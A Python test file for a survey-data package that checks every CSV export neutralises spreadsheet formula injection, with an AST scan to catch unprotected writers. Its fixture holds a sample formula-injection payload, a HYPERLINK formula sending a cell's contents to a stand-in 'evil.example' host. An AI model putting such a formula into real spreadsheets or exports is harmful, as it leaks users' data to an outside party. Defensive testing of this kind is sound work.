"""Every CSV sharedground writes keeps formulas out (issue #15, item 3), not only the plain
responses export: the weighted export, a coder's sheet of comments, the codings export and
the framework matrix, the evaluation's CSV. A writer added later without neutralising is
caught by reading the source (`test_no_csv_writer_is_left_unneutralised`).
"""

from __future__ import annotations

import ast
import csv
import sys
from pathlib import Path

from sqlalchemy import select

from sharedground.exchange.exporter import export_wave
from sharedground.exchange.formulas import NeutralisingWriter
from sharedground.exchange.importer import import_file
from sharedground.instrument import builtin
from sharedground.store import Store

sys.path.insert(0, str(Path(__file__).parent.parent / "analysis"))
from analysis_helpers import make_rows, write_rows

SRC = Path(__file__).resolve().parents[2] / "src" / "sharedground"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A2, "click")'

#: Writers whose cells nobody types: (file, function) -> why they need no quoting.
NOT_USER_TEXT = {
    ("demo.py", "_frame"): "the demo's synthetic sample frame (generated names)",
    ("demo.py", "_programme"): "the synthetic programme's planted truth (numbers, ids)",
    ("cli/data.py", "_synth_programme"): "the synthetic programme's tables (generated)",
    ("exchange/importer.py", "_insert"): "rows for PostgreSQL's COPY, never a user's file",
    ("exchange/formulas.py", "__init__"): "NeutralisingWriter itself",
}


def _rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def _formula_wave(store: Store, tmp_path: Path) -> None:
    instrument = builtin("dmr-2015")
    rows = make_rows(instrument, 6, seed=5)
    rows[0]["comments_overall"] = FORMULA
    rows[1]["comments_overall"] = "@SUM(A1:A9)"
    import_file(store, write_rows(tmp_path / "w.csv", instrument, rows), "w", instrument)


def test_the_weighted_export_quotes_a_formula_in_a_comment(store: Store, tmp_path: Path) -> None:
    _formula_wave(store, tmp_path)
    out = tmp_path / "weighted.csv"
    assert export_wave(store, "w", "csv", out, weights=[1.5] * 6) == 6
    rows = _rows(out)
    column = rows[0].index("comments_overall")
    comments = {row[column] for row in rows[1:]}
    assert "'" + FORMULA in comments and "'@SUM(A1:A9)" in comments
    assert not any(cell and cell[0] in "=+@" for row in rows for cell in row)


def test_a_coding_sheet_and_the_codings_export_quote_formulas_and_import_back(
    store: Store, tmp_path: Path
) -> None:
    from sharedground.store.textschema import TextSource
    from sharedground.text import coding, frames, sources

    _formula_wave(store, tmp_path)
    with store.session() as session:
        sources.add_comments(store, session, store.get_wave(session, "w"))
        frames.save(session, frames.builtin("dmr-themes"))
        chosen = list(session.scalars(select(TextSource).order_by(TextSource.id)))
        sheet = tmp_path / "sheet.csv"
        coding.write_sample(sheet, chosen)
    rows = _rows(sheet)
    texts = [row[2] for row in rows[1:]]
    assert any(t.startswith("'=HYPERLINK") for t in texts)
    assert not any(cell and cell[0] in "=+@" for row in rows for cell in row)
    # The coder fills the code and a memo that looks like a formula, as a spreadsheet
    # would save it back (the writer's quote kept), and the sheet imports as coded.
    rows[1][3], rows[1][6] = "variation", "'=1+2 (a note)"
    with sheet.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    with store.session() as session:
        frame = frames.get(session, "dmr-themes")
        assert coding.import_csv(session, sheet, frame, "ann") == 1
        (row,) = coding.rows(session, frame)
        assert row.memo == "=1+2 (a note)"
        exported = tmp_path / "codings.csv"
        coding.export_csv(exported, coding.rows(session, frame))
    written = _rows(exported)
    assert written[1][5] == "'=1+2 (a note)"


def test_the_neutralising_writer_quotes_every_cell_that_needs_it(tmp_path: Path) -> None:
    path = tmp_path / "m.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        NeutralisingWriter(handle).writerows([["=code", "+name", -3, None, "plain"]])
    assert _rows(path) == [["'=code", "'+name", "-3", "", "plain"]]


def _writers() -> list[tuple[str, str, str]]:
    """(file, enclosing function, its source) of every CSV write in the package."""
    found = []
    for path in SRC.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        tree = ast.parse(text)
        for node in ast.walk(tree):
            if not isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
                continue
            body = ast.get_source_segment(text, node) or ""
            inner = {
                id(n)
                for child in ast.walk(node)
                if child is not node and isinstance(child, ast.FunctionDef | ast.AsyncFunctionDef)
                for n in ast.walk(child)
            }
            for call in ast.walk(node):
                if id(call) in inner or not isinstance(call, ast.Call):
                    continue
                name = ast.unparse(call.func)
                if name in ("csv.writer", "csv.DictWriter") or name.endswith(".write_csv"):
                    found.append((str(path.relative_to(SRC)), node.name, body))
                    break
    return found


def test_no_csv_writer_is_left_unneutralised() -> None:
    writers = _writers()
    assert len(writers) >= 8  # the scan finds the writers at all
    unsafe = [
        (file, function)
        for file, function, body in writers
        if (file, function) not in NOT_USER_TEXT
        and "neutralis" not in body.lower()
        and "NeutralisingWriter" not in body
    ]
    assert unsafe == []
